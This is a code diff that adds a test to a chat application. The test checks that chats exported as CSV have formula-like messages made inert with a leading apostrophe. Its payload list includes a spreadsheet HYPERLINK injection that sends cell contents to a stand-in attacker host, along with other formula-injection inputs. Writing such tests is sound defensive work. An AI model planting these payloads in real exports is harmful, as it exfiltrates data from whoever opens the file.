@@ -74,6 +74,22 @@ def test_chats_can_be_listed_renamed_exported_and_deleted_by_their_owner_only(cl
     assert client.get(f"/api/v1/chats/{chat_id}", headers=ada).status_code == 404
 
 
+def test_a_chat_exported_as_csv_holds_no_formula(client, settings):
+    """A message (the user's, or an answer the user steered) that starts like a formula is made inert."""
+    _roomy(settings)
+    ada = sign_up(client, "ada@example.com")
+    chat_id = uuid.uuid4()
+    payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    for text in payloads:
+        assert _say(client, ada, chat_id, text).status_code == 200
+    exported = client.get(f"/api/v1/chats/{chat_id}/export", headers=ada, params={"format": "csv"}).text
+    rows = list(csv.reader(io.StringIO(exported, newline="")))
+    said = [row[4] for row in rows[1:] if row[1] == "user"]
+    assert said == ["'" + text for text in payloads]
+    assert all(not row[4].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
+    assert [row[3].isdigit() for row in rows[1:]] == [True] * len(rows[1:])  # token counts stay numbers
+
+
 def test_a_failed_first_message_leaves_no_chat(settings):
     faulty = settings.model_copy(update={"mock_faults": True})
     with TestClient(create_app(faulty)) as client:
